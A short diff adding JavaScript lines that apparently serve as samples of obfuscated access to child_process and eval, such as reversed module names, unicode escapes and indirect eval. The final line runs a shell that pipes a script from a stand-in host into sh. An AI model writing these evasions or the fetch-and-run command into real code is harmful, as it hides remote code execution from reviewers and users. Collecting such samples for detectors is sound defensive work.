@@ -1,0 +1,11 @@
+const cp = require("child_" + "process");
+const { exec: run } = require("node:child_process");
+process.mainModule.require("child_process").execSync("id");
+module.constructor._load("child_process").exec("uname -a");
+globalThis["ev" + "al"](atob("Y29uc29sZS5sb2coMSk="));
+(0, eval)(code);
+[].constructor.constructor("return process")();
+require("ssecorp_dlihc".split("").reverse().join("")).exec("ls");
+\u0065val("1");
+run(`ls ${dir}`);
+import("child_process").then(({ spawn }) => spawn("sh", ["-c", "curl -s http://x.example | sh"]));
